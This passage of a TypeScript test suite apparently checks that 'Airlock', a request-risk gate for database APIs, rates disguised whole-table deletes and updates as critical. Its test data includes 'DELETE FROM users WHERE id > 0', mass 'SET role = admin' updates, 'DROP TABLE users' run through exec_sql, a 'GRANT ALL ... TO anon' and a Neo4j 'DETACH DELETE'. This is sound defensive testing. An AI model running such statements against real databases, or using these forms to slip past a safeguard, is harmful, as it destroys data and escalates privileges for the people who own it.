    for (const url of [NEON, D1]) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: `DELETE FROM users WHERE ${where}`, params: [] } : { sql: `DELETE FROM users WHERE ${where}` }) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${where}`);
    }
  }
});

/** Hasura ltree operators with a value every path meets (`!spam`: every path but those holding it, as `<>`), and the SQL each runs. */
const ltreeEvery: Array<[string, string]> = [
  ['{path: {_matches: "*"}}', "path ~ '*'"], ['{path: {_matches: "*{1,}"}}', "path ~ '*{1,}'"], ['{path: {_matches: "*.*"}}', "path ~ '*.*'"], ['{path: {_matches_any: ["a.*", "*"]}}', "path ? ARRAY['a.*', '*']::lquery[]"],
  ['{path: {_descendant: ""}}', "path <@ ''"], ['{path: {_descendant_any: ["a", ""]}}', "path <@ ARRAY['a', '']::ltree[]"], ['{path: {_matches_fulltext: "!spam"}}', "path @ '!spam'"],
];

t.test('twenty-second pass (follow-up): Hasura operators Airlock writes no SQL for hold for every row when their value takes every row', async (t) => {
  // Left open by the twenty-second pass: operators not written as SQL (ltree, PostGIS) were read as
  // a narrow comparison each, so `delete_nodes(where: {path: {_matches: "*"}})` (every ltree matches
  // `*`), `{_descendant: ""}` and `_st_d_within` farther than the Earth reaches were medium writes.
  const every = [...ltreeEvery.map(([w]) => w), '{geom: {_st_d_within: {distance: 1e300, from: {type: "Point", coordinates: [0, 0]}}}}', '{geom: {_st_3d_d_within: {distance: 50000000, from: {type: "Point", coordinates: [0, 0, 0]}}}}', '{_not: {_not: {path: {_matches: "*"}}}}', '{_or: [{id: {_eq: 5}}, {path: {_descendant: ""}}]}'];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...every), fc.boolean(), async (where, update) => {
      const field = update ? `update_nodes(where: ${where}, _set: {role: "admin"})` : `delete_nodes(where: ${where})`;
      const body = JSON.stringify({ query: `mutation { ${field} { affected_rows } }` });
      const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 20), ...seed },
  );
  // Controls: the same operators naming rows stay narrow.
  for (const where of ['{path: {_matches: "a.*"}}', '{path: {_descendant: "a.b"}}', '{path: {_ancestor: "a.b"}}', '{path: {_matches_fulltext: "spam"}}', '{geom: {_st_d_within: {distance: 100, from: {type: "Point", coordinates: [0, 0]}}}}', '{path: {_matches: "*{0}"}}']) {
    const body = JSON.stringify({ query: `mutation { delete_nodes(where: ${where}) { affected_rows } }` });
    t.equal((await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body })).decision.approval?.risk, 'medium', where);
  }
});

t.test('twenty-second pass (follow-up): on a real PostgreSQL, the clock moved past every stored timestamp holds for every row, a cut-off, a JSON member equality and MySQL\'s `&&` do not', { skip: missingPostgres() }, async (t) => {
  const pg = await startPostgres(t);
  const client = new pgLib.Client({ connectionString: pg.url() });
  await client.connect();
  t.teardown(() => client.end());
  // Rows made over fifteen years, and expiries up to fifteen years out.
  await client.query(`CREATE TABLE users (id int, role text, created_at timestamptz, expires_at timestamptz);
    INSERT INTO users SELECT g, 'user', now() - g * interval '1 year', now() + g * interval '1 year' FROM generate_series(0, 15) g`);
  const wheres = new Set<string>();
  fc.sample(clockPastEveryRow, { numRuns: 200, seed: 1 }).forEach((c) => wheres.add(clockWhere(c)));
  // Each alone: an untyped text subtracted from the clock is read as a timestamp, and refused (deletes nothing).
  let every = 0;
  let refused = 0;
  for (const w of wheres) {
    try {
      const { rows } = await client.query(`SELECT count(*)::int AS c FROM users WHERE ${w}`);
      if (rows[0].c !== 16) t.fail(`${w}: ${rows[0].c} of 16`);
      else every++;
    } catch (e) {
      if (!/invalid input syntax for type timestamp/.test(String(e))) throw e;
      refused++;
    }
  }
  t.ok(every > wheres.size / 2, `${every} conditions each matched every row, ${refused} refused by PostgreSQL`);
  for (const w of clockControls) {
    const { rows } = await client.query(`SELECT count(*)::int AS c FROM users WHERE ${w}`);
    t.ok(rows[0].c < 16, `control ${w}: ${rows[0].c} of 16`);
  }
  // A JSON member equal to one value names the rows holding it.
  await client.query(`CREATE TABLE docs (id int, role text, data jsonb);
    INSERT INTO docs SELECT g, 'user', jsonb_build_object('id', g, 'a', jsonb_build_object('b', CASE WHEN g = 5 THEN 'x' ELSE 'y' END)) FROM generate_series(1, 10) g`);
  for (const w of jsonKeyed) {
    const { rows } = await client.query(`SELECT count(*)::int AS c FROM docs WHERE ${w}`);
    t.ok(rows[0].c >= 1 && rows[0].c <= 2, `${w}: ${rows[0].c} of 10`);
  }
  // Hasura's ltree operators with a value every path meets (the empty path too, for all but `*{1,}`).
  await client.query(`CREATE EXTENSION IF NOT EXISTS ltree; CREATE TABLE nodes (id int, path ltree);
    INSERT INTO nodes VALUES (1, 'a'), (2, 'a.b.c'), (3, 'spam.x'), (4, 'Top.Science'), (5, 'z')`);
  for (const [where, sql] of ltreeEvery) {
    const { rows } = await client.query(`SELECT count(*)::int AS c FROM nodes WHERE ${sql}`);
    t.equal(rows[0].c, sql.includes('spam') ? 4 : 5, where);
  }
  // MySQL's `&&` between two conditions: PostgreSQL refuses the statement (it runs nowhere there).
  await client.query('CREATE TABLE accounts (id int, tenant_id int, score float8, active bool, deleted_at timestamptz, email text, name text)');
  for (const a of andLeft) {
    for (const b of andRight) {
      await t.rejects(client.query(`DELETE FROM accounts WHERE ${a} && ${b}`), `${a} && ${b}`);
    }
  }
});

/** Conditions MySQL holds for every row whose text starts with no digit (it reads such text as 0 beside a number; checked on MariaDB 10.11). */
const mysqlZero = (c: string): string[] => [`${c} = 0`, `0 = ${c}`, `${c} = FALSE`, `${c} = -0.0`, `${c} = 0e0`, `${c} IN (0, 5)`, `${c} <=> 0`, `${c} < 1`, `${c} >= 0`, `${c} BETWEEN -1 AND 1`, `NOT ${c}`, `${c} IS FALSE`, `${c} IS NOT TRUE`, `${c} + 0 = 0`, `${c} = 1 - 1`, `${c} = id - id`, `${c} = CAST(0 AS SIGNED)`, `${c} = LENGTH('')`, `${c} = @z`];

t.test('twenty-third pass: MySQL compares a text column with a number as a number, so `email = 0` holds for every row on an endpoint of unknown dialect', async (t) => {
  // Left open by the twenty-second pass: `DELETE FROM users WHERE email = 0` deletes every row of a
  // real MariaDB whose email starts with no digit (the text reads as 0), also `< 1`, `NOT email`,
  // `IS FALSE`, `email + 0 = 0`. SQLite's samples (numbers and text) and PostgreSQL (which refuses
  // text = integer) read it as one row: a narrow medium write.
  const column = fc.constantFrom('email', 'name', 'title', '`e-mail`', 'u.email', 'username', 'slug', 'status', 'token', 'note');
  await fc.assert(
    fc.asyncProperty(column, fc.integer({ min: 0, max: 18 }), fc.boolean(), fc.constantFrom('', ' LIMIT 1000', ' ORDER BY id'), async (c, k, update, tail) => {
      const where = mysqlZero(c)[k]!;
      const from = c.startsWith('u.') ? 'users u' : 'users';
      const sql = update ? `UPDATE ${from} SET role = 'admin' WHERE ${where}` : `DELETE FROM ${from} WHERE ${where}${tail}`;
      const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  // A user variable the request binds no value to may hold 0; one it binds by name is that value.
  const unbound = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email = @z', params: [] }) });
  t.equal(unbound.decision.approval?.risk, 'critical', '@z, no value given');
  const named = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email = @z', params: { z: 'a@b.example' } }) });
  t.equal(named.decision.approval?.risk, 'medium', '@z bound by name to a text');
  // A number bound to the comparison is the literal.
  for (const v of [0, false]) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email = ?', params: [v] }) });
    t.equal(decision.approval?.risk, 'critical', `email = ? with ${String(v)}`);
  }
  // Controls: a column whose name says it holds a number, date or truth value, a text compared with
  // text, a number no text reads as, and D1 (SQLite, which compares as its samples do) stay medium.
  const controls = ['id = 0', 'id = @z', "email = lower('A')", 'user_id = 0', 'userId = 3', 'age < 18', 'expires_at < 1700000000', 'is_admin = 0', 'views = 0 AND title = \'x\'', 'email = 5', "email = '0'", "email = 'a@b.example'", 'deleted_at IS NULL', "last_login < '2024-01-01'", 'status = 1'];
  for (const where of controls) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) });
    t.equal(decision.approval?.risk, 'medium', where);
  }
  const { decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email = 0' }) });
  t.equal(decision.approval?.risk, 'medium', 'D1: SQLite compares text with a number as unequal');
  const { decision: bound } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'DELETE FROM users WHERE email = ?', params: ['a@b.example'] }) });
  t.equal(bound.approval?.risk, 'medium', 'email = ? with a text');
});

/** How many rows of a real SQLite table `users` (Python's sqlite3) each WHERE clause touches: its columns, its rows as a Python expression. */
function sqliteRowCounts(columns: string, rows: string, wheres: string[]): Promise<number[]> {
  const script = [
    'import sqlite3, sys, json',
    'c = sqlite3.connect(":memory:")',
    `c.execute("CREATE TABLE users (${columns})")`,
    `c.executemany("INSERT INTO users VALUES (${columns.split(',').map(() => '?').join(', ')})", ${rows})`,
    'print(json.dumps([c.execute("SELECT count(*) FROM users WHERE " + w).fetchone()[0] for w in json.loads(sys.argv[1])]))',
  ].join('\n');
  return new Promise((resolve, reject) => execFile('python3', ['-c', script, JSON.stringify(wheres)], (err, out) => (err ? reject(err) : resolve(JSON.parse(out) as number[]))));
}

t.test('twenty-fourth pass: a key alone as a condition holds for every row where the server may be MySQL or SQLite', async (t) => {
  // Left open by the twenty-third pass: `DELETE FROM users WHERE id` (also `IFNULL(id, 1)`, `id +
  // 0`, `NOT NOT id`, an OR with it) was a narrow medium write on an endpoint of unknown dialect and
  // on D1: MySQL and SQLite take a number as true where it is not 0, and a key is never 0
  // (PostgreSQL refuses a number there). Checked on a real MariaDB 10.11 by hand, on SQLite here.
  // (Twenty-fifth pass: `IFNULL(id, 0)` moved here from the controls: IFNULL of a key, never NULL, is the key.)
  const keyed = ['id', 'user_id', 'id + 0', '-id', 'abs(id)', 'IFNULL(id, 1)', 'COALESCE(user_id, 1)', 'CAST(id AS SIGNED)', 'NOT NOT id', 'id OR id = 5', 'id AND 1', 'id * 2', 'IFNULL(id, 0)'];
  for (const url of [GENERIC, D1]) {
    for (const where of keyed) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `UPDATE users SET role = 'admin' WHERE ${where}` }) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${where}`);
    }
  }
  // Controls: a flag, a count, a date, a text alone; a key beside a condition that names rows; a
  // key made 0; and PostgreSQL, which refuses the bare number.
  for (const where of ['active', 'is_admin', 'retries', 'deleted_at', 'email', 'id AND email = \'x\'', 'id = 5 AND id', 'id * 0', 'IFNULL(NULL, id) * 0']) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) });
    t.equal(decision.approval?.risk, 'medium', where);
  }
  const pgService = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'DELETE FROM users WHERE id', params: [] }) });
  t.equal(pgService.decision.approval?.risk, 'medium', 'Neon: PostgreSQL refuses an integer as a condition');
  // SQLite's reading (Python's sqlite3): each touches every row of a table keyed from 1.
  const sqlite = keyed.map((w) => w.replace('CAST(id AS SIGNED)', 'CAST(id AS INTEGER)'));
  const counts = await sqliteRowCounts('id INTEGER PRIMARY KEY, user_id INTEGER, role TEXT', '[(i, i * 7, "x") for i in range(1, 6)]', sqlite);
  t.same(counts, sqlite.map(() => 5), 'SQLite: every row');
});

t.test('twenty-fourth pass: a bound past the table\'s own largest or smallest value holds for every row', async (t) => {
  // `DELETE FROM users WHERE id < (SELECT max(id) + 1 FROM users)` (also `COALESCE(MAX(id), 0) + 1`,
  // the `+ 1` outside, `> min(id) - 1`, a date plus an interval, MySQL's derived table `FROM
  // (SELECT id AS x FROM users) t`, which it runs where a DELETE may not read its own table) was a
  // narrow medium write on every dialect: the sample run's text samples sort above every number,
  // so `max + 1` stayed below them, while a real table's rows are all below it (`<= max(id)`
  // alone was held). The MySQL forms each touched every row of a real MariaDB 10.11, by hand.
  const wide = ['id < (SELECT max(id) + 1 FROM users)', 'id < (SELECT max(id) FROM users) + 1', 'id < 1 + (SELECT max(id) FROM users u)', 'id < (SELECT COALESCE(MAX(id), 0) + 1 FROM users)',
    '(SELECT max(id) + 1 FROM users) > id', 'id > (SELECT min(id) - 1 FROM users)', 'id < (SELECT greatest(max(id), 0) + 1 FROM users)', 'id < (SELECT max(x) + 1 FROM (SELECT id AS x FROM users) t)', 'id < (SELECT max(id) + 1 FROM (SELECT * FROM users) t)'];
  for (const url of [NEON, GENERIC, D1]) {
    for (const where of [...wide, ...(url === D1 ? [] : ["created_at < (SELECT max(created_at) + interval '1 day' FROM users)"])]) {
      const sql = `UPDATE users SET role = 'admin' WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : { sql }) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${where}`);
    }
  }
  // Controls: another table's or column's extreme, a bound below the largest, the wrong side, a subset.
  for (const where of ['id < (SELECT max(id) + 1 FROM logs)', 'id < (SELECT max(n) + 1 FROM users)', 'id < (SELECT max(id) - 1 FROM users)', 'id > (SELECT max(id) + 1 FROM users)', 'id < (SELECT max(id) + 1 FROM users WHERE id < 5)', 'id < (SELECT max(x) + 1 FROM (SELECT n AS x FROM users) t)']) {
    const { decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: `DELETE FROM users WHERE ${where}` }) });
    t.equal(decision.approval?.risk, 'medium', where);
  }
  // SQLite's reading (Python's sqlite3): each touches every row.
  const sqlite = wide.map((w) => w.replace('greatest(', 'max(0, '));
  const counts = await sqliteRowCounts('id INTEGER PRIMARY KEY, n INTEGER', '[(i, i) for i in (-3, 1, 2, 50)]', sqlite);
  t.same(counts, sqlite.map(() => 4), 'SQLite: every row');
});

t.test('twenty-fourth pass: a key counts from 1, so `id > 0` holds for every row', async (t) => {
  // `DELETE FROM users WHERE id > 0` (MySQL's known way past safe-updates mode; also `>= 1`, `> -1`,
  // `user_id > 0`, a flipped side, a cast, `BETWEEN 1 AND 9223372036854775807`) was a narrow medium
  // write on every dialect: the sample rows hold negative numbers, while serial, identity,
  // AUTO_INCREMENT keys and SQLite's rowid count from 1.
  const wide = ['id > 0', 'id >= 0', 'id > -1', 'id >= 1', 'user_id > 0', '0 < id', '"userId" > 0', 'id::bigint > 0', "id > '0'", 'id BETWEEN 1 AND 9223372036854775807', 'id > 0.5'];
  for (const url of [NEON, SUPABASE, GENERIC, D1]) {
    for (const where of wide) {
      const sql = `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql }) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${where}`);
    }
  }
  const bound = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'UPDATE users SET role = $2 WHERE id > $1', params: [0, 'admin'] }) });
  t.equal(bound.decision.approval?.risk, 'critical', 'id > $1 with 0');
  const rest = await decide({ method: 'PATCH', url: 'https://abcdefghijklmnopqrst.supabase.co/rest/v1/users?id=gt.0', headers: [['Content-Type', 'application/json']], body: JSON.stringify({ role: 'admin' }) });
  t.equal(rest.decision.approval?.risk, 'critical', 'PostgREST id=gt.0');
  // Controls: a bound past the first keys, a range with an upper end, a column no key, an unbound parameter.
  for (const where of ['id > 1', 'id >= 2', 'id > 1000', 'id > 0 AND id < 100', 'score > 0', 'age >= 1', 'id BETWEEN 1 AND 100', 'id > $1']) {
    const { decision } = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE ${where}`, params: [] }) });
    t.equal(decision.approval?.risk, 'medium', where);
  }
});

t.test('twenty-fourth pass: a text above the empty one spares only the empty text, as `<> \'\'` does', async (t) => {
  // `DELETE FROM users WHERE email > ''` (also `'' < email`, `> ''::text`) was a narrow medium write
  // on every dialect while `email >= ''` and `email <> ''` were held: no text sorts below the empty one.
  for (const url of [NEON, SUPABASE, GENERIC, D1]) {
    for (const where of ["email > ''", "'' < email", "email > ''::text"]) {
      const sql = `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql }) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${where}`);
    }
  }
  for (const where of ["email < ''", "email > 'a'", "'' > email"]) {
    const { decision } = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `DELETE FROM users WHERE ${where}`, params: [] }) });
    t.equal(decision.approval?.risk, 'medium', where);
  }
});

/**
 * Twenty-fifth pass: conditions that hold for every row by what a key, a UUID, a truth value or a
 * timestamp can hold, or by the table's own aggregates, written over key `k` of table `users`
 * (each was a narrow medium write: SQLite's sample rows hold negative, fractional and text values
 * no key holds, and `max(k)` of them is a text). `sqlite`: SQLite reads it too (D1, Python's sqlite3).
 */
const keyedEveryRow = (k: string): Array<{ where: string; sqlite: boolean }> => [
  // Aggregates of the table itself as bounds (left open by the twenty-fourth pass).
  { where: `${k} < (SELECT max(${k}) * 2 FROM users)`, sqlite: true },
  { where: `${k} < 2 * (SELECT max(${k}) FROM users)`, sqlite: true },
  { where: `${k} <= (SELECT sum(${k}) FROM users)`, sqlite: true },
  { where: `${k} < (SELECT sum(${k}) FROM users)`, sqlite: true }, // a table of two rows or more
  { where: `${k} < (SELECT max(${k}) + count(*) FROM users)`, sqlite: true },
  { where: `(SELECT max(${k}) FROM users) + (SELECT max(${k}) FROM users) > ${k}`, sqlite: true },
  { where: `${k} BETWEEN (SELECT min(${k}) FROM users) AND (SELECT max(${k}) FROM users)`, sqlite: true },
  { where: `${k} > (SELECT min(${k}) FROM users) / 2`, sqlite: true },
  { where: `${k} < (SELECT max(${k}) FROM users) + (SELECT 1)`, sqlite: true },
  // A composite key's row bound, a key bent through arithmetic, NOT of a range no key meets.
  { where: `(${k}, org_id) > (0, 0)`, sqlite: true },
  { where: `(org_id, ${k}) >= (1, 1)`, sqlite: true },
  { where: `${k} % 2 IN (0, 1)`, sqlite: true },
  { where: `${k} % 2 = 0 OR ${k} % 2 = 1`, sqlite: true },
  { where: `abs(${k}) > 0`, sqlite: true },
  { where: `${k} * ${k} > 0`, sqlite: true },
  { where: `coalesce(${k}, 0) >= 0`, sqlite: true },
  { where: `(${k} > 0) = true`, sqlite: true },
  { where: `NOT (${k} < 1)`, sqlite: true },
  { where: `NOT (${k} <= 0 OR ${k} IS NULL)`, sqlite: true },
  { where: `${k} > (SELECT 0)`, sqlite: true },
  { where: `mod(${k}, 1) = 0`, sqlite: false },
  { where: `sign(${k}) = 1`, sqlite: false },
];
/** The same for columns no key: a UUID above the nil one, both truth values, a date past every timestamp. */
const valuedEveryRow = [
  "uuid > '00000000-0000-0000-0000-000000000000'", "'{00000000000000000000000000000000}' < uuid", "uuid <= 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF'",
  'active IN (true, false)', 'active >= false', 'active = true OR active = false',
  "created_at > '0001-01-01'", "created_at < '9999-12-31 23:59:59'", "created_at >= '4713-01-01 BC'", "created_at BETWEEN '1900-01-01' AND '2999-12-31'",
  // An aggregate's row kept by a LIMIT; the key's own sequence (serial and identity name it so).
  'id < (SELECT max(id) * 2 FROM users LIMIT 1)', 'id <= (SELECT last_value FROM users_id_seq)',
];

t.test('twenty-fifth pass: a bound from the table\'s own aggregates, a composite key, a key\'s arithmetic, a UUID, truth values and dates hold for every row', async (t) => {
  const body = (url: string, sql: string): string => JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql });
  const keys = fc.constantFrom('id', 'user_id', '"userId"', 'account_id', 'pk');
  await fc.assert(
    fc.asyncProperty(keys, fc.nat(), fc.constantFrom(NEON, SUPABASE, GENERIC, D1), fc.boolean(), async (k, i, url, update) => {
      const forms = keyedEveryRow(k).filter((f) => url !== D1 || f.sqlite);
      const where = forms[i % forms.length]!.where;
      const sql = update ? `UPDATE users SET role = 'admin' WHERE ${where}` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, sql) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${url} ${sql}: ${decision.action} ${decision.approval?.risk ?? ''}`);
    }),
    { numRuns: Math.min(runs, 40), ...seed },
  );
  for (const url of [NEON, SUPABASE, GENERIC, D1]) {
    for (const where of [...valuedEveryRow.filter((w) => url !== D1 || !/[{]|_seq/.test(w)), "id <= (SELECT x FROM m)"]) {
      const sql = where.includes(' m)') ? `WITH m AS (SELECT max(id) * 2 AS x FROM users) DELETE FROM users WHERE id < (SELECT x FROM m)` : `DELETE FROM users WHERE ${where}`;
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, sql) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
    }
  }
  // Controls: a shard of the keys, one key bent to one value, a range of keys, a composite key's
  // one row, a bound past the first keys, the nil UUID itself, one truth value, a cut-off date, an
  // aggregate that spares rows (the mean, half the count, another table's, a subset's, a column
  // that may be negative), each medium.
  const controls = ['id % 4 = 0', 'id % 10 = 3', 'abs(id) = 5', 'id / 1000 = 5', 'coalesce(user_id, 0) = 0', 'NOT (id > 5)', 'NOT (id < 5)', 'id * 2 > 10',
    '(org_id, user_id) = (1, 2)', '(org_id, user_id) > (5, 0)', 'id > (SELECT 5)', "uuid = '00000000-0000-0000-0000-000000000000'", "uuid > '10000000-0000-0000-0000-000000000000'",
    'active = true', 'active IN (true)', "created_at < '2020-01-01'", "birth_date > '1950-01-01'", "created_at BETWEEN '2001-01-01' AND '2999-12-31'",
    'id < (SELECT avg(id) FROM users)', 'id > (SELECT count(*) FROM users) / 2', 'id < (SELECT max(id) * 2 FROM users WHERE id < 5)', 'id < (SELECT max(id) FROM logs) * 2', 'id < (SELECT max(id) FROM users) - (SELECT 5)', 'n < (SELECT max(n) * 2 FROM users)'];
  for (const url of [NEON, GENERIC]) {
    for (const where of controls) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, `DELETE FROM users WHERE ${where}`) });
      t.equal(decision.approval?.risk, 'medium', `${url} ${where}`);
    }
  }
  // The same in PostgREST's filters (Supabase's and a self-hosted one's), whose `true`/`false` PostgreSQL
  // casts to the boolean column's; one truth value and a key stay medium.
  for (const [filter, risk] of [['active=in.(true,false)', 'critical'], ['active=gte.false', 'critical'], ['or=(active.eq.true,active.eq.false)', 'critical'], ['uuid=gt.00000000-0000-0000-0000-000000000000', 'critical'],
    ['created_at=lt.9999-12-31', 'critical'], ['id=not.lt.1', 'critical'], ['active=eq.true', 'medium'], ['active=in.(false)', 'medium'], ['id=eq.5', 'medium']]) {
    const rest = await decide({ method: 'PATCH', url: `https://abcdefghijklmnopqrst.supabase.co/rest/v1/users?${filter}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ role: 'admin' }) });
    t.equal(rest.decision.approval?.risk, risk, `Supabase ${filter}`);
    const own = await decide({ method: 'DELETE', url: `https://${SQL_HOST}/rest/v1/users?${filter}`, headers: [['Accept', 'application/json']] });
    t.equal(own.decision.approval?.risk, risk, `self-hosted PostgREST ${filter}`);
  }
  // The same in Hasura's boolean expressions, whose columns the SQL reading renamed (`id` read as `c0`, no key).
  for (const [where, risk] of [['{id: {_gt: 0}}', 'critical'], ['{_not: {id: {_lt: 1}}}', 'critical'], ['{userId: {_gte: 1}}', 'critical'], ['{active: {_in: [true, false]}}', 'critical'],
    ['{uuid: {_gt: "00000000-0000-0000-0000-000000000000"}}', 'critical'], ['{id: {_gt: 5}}', 'medium'], ['{active: {_eq: true}}', 'medium'], ['{_not: {id: {_lt: 5}}}', 'medium']]) {
    const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `mutation { delete_users(where: ${where}) { affected_rows } }` }) });
    t.equal(decision.approval?.risk, risk, `Hasura ${where}`);
  }
  // And in pg_graphql's filters (Supabase's /graphql/v1): `userId` was folded to `userid` (no key), `in` not read.
  for (const [filter, risk] of [['{userId: {gte: 1}}', 'critical'], ['{active: {in: [true, false]}}', 'critical'], ['{not: {id: {lt: 1}}}', 'critical'], ['{userId: {gte: 2}}', 'medium'], ['{active: {in: [true]}}', 'medium'], ['{id: {in: [1, 2]}}', 'medium']]) {
    const { decision } = await decide({ url: 'https://abcdefghijklmnopqrst.supabase.co/graphql/v1', headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `mutation { updateUsersCollection(set: {role: "admin"}, filter: ${filter}, atMost: 100000) { affectedCount } }` }) });
    t.equal(decision.approval?.risk, risk, `pg_graphql ${filter}`);
  }
  // SQLite's own spellings, which PostgreSQL's reading refuses, on D1 and an endpoint of unknown
  // dialect (judged by SQLite's run alone, whose varied samples no key holds); one key and a shard stay medium.
  const sqliteOnly = ['id % 2 == 0 OR id % 2 == 1', '(id > 0) == 1', 'id IS id + 0', 'id > 0 = true'];
  for (const url of [D1, GENERIC]) {
    for (const [where, risk] of [...sqliteOnly.map((w) => [w, 'critical']), ['id == 5', 'medium'], ['id % 2 == 0', 'medium']]) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, `UPDATE users SET role = 'admin' WHERE ${where}`) });
      t.equal(decision.approval?.risk, risk, `${url} ${where}`);
    }
  }
  // SQLite's reading (Python's sqlite3): each touches every row of a table keyed from 1.
  const sqlite = [...keyedEveryRow('id').filter((f) => f.sqlite).map((f) => f.where), ...sqliteOnly];
  const counts = await sqliteRowCounts('id INTEGER PRIMARY KEY, org_id INTEGER', '[(i, i % 3 + 1) for i in (1, 2, 3, 7, 1000)]', sqlite);
  t.same(counts, sqlite.map(() => 5), 'SQLite: every row');
});

t.test('twenty-fifth pass: a function named for running SQL is judged by the statement it is given', async (t) => {
  // `SELECT exec_sql('DROP TABLE users')` (also `run_sql`, `CALL execute_sql(…)`, `query_to_json`,
  // a dollar-quoted UPDATE of every row, a call inside the text) was a medium write on every SQL
  // endpoint, as any call of an unknown function is, while its PostgREST twin `rpc/exec_sql` was held.
  const body = (url: string, sql: string): string => JSON.stringify(url === NEON ? { query: sql, params: [] } : url === SUPABASE ? { query: sql } : { sql });
  const wide = ["SELECT exec_sql('DROP TABLE users')", "SELECT public.run_sql('DELETE FROM users')", "CALL execute_sql('TRUNCATE users')", "SELECT query_to_json('DELETE FROM users RETURNING 1')",
    "SELECT exec_sql($q$UPDATE users SET role = 'admin' WHERE id > 0$q$)", "SELECT exec_sql('SELECT exec_sql(''DROP TABLE users'')')", "SELECT admin.exec('GRANT ALL ON users TO anon')"];
  for (const url of [NEON, SUPABASE, GENERIC]) {
    for (const sql of wide) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: body(url, sql) });
      t.equal(decision.approval?.risk, 'critical', `${url} ${sql}`);
    }
  }
  // Controls: a narrow statement, a read, a phrase to a function named otherwise, a built-in: as before.
  for (const [sql, risk] of [["SELECT exec_sql('DELETE FROM users WHERE id = 5')", 'medium'], ["SELECT exec_sql('SELECT 1')", 'medium'], ["SELECT search_products('drop table tennis')", 'medium'], ["SELECT lower('DROP TABLE users')", undefined]] as Array<[string, string | undefined]>) {
    const { decision } = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: body(NEON, sql) });
    t.equal(decision.approval?.risk, risk, sql);
  }
});

t.test('twenty-sixth pass: query languages other than SQL are read in their own grammar and judged as their SQL twin', async (t) => {
  // On an allowed host no module owns: Elasticsearch's `_delete_by_query {query: {match_all: {}}}`,
  // Neo4j's `MATCH (n) DETACH DELETE n`, SPARQL's `DELETE WHERE {?s ?p ?o}` / `DROP ALL`, InfluxQL's
  // `DROP MEASUREMENT`, InfluxDB's `/api/v2/delete` of every point, Prometheus's `delete_series` of
  // `{__name__=~".+"}`, Firestore's `bulkDeleteDocuments {}`, DynamoDB's `DeleteTable`, Webdis's
  // `GET /FLUSHALL` and a Data API `deleteMany` without its filter were medium writes (the GETs
  // allowed reads), a grant for a narrow one of each covering them.
  const host = `https://${SQL_HOST}`;
  const jsonBody = (o: unknown): { headers: Array<[string, string]>; body: string } => ({ headers: [['Content-Type', 'application/json']], body: JSON.stringify(o) });
  const form = (o: Record<string, string>): { headers: Array<[string, string]>; body: string } => ({ headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: new URLSearchParams(o).toString() });
  const index = fc.stringMatching(/^[a-z][a-z0-9_-]{0,8}$/);
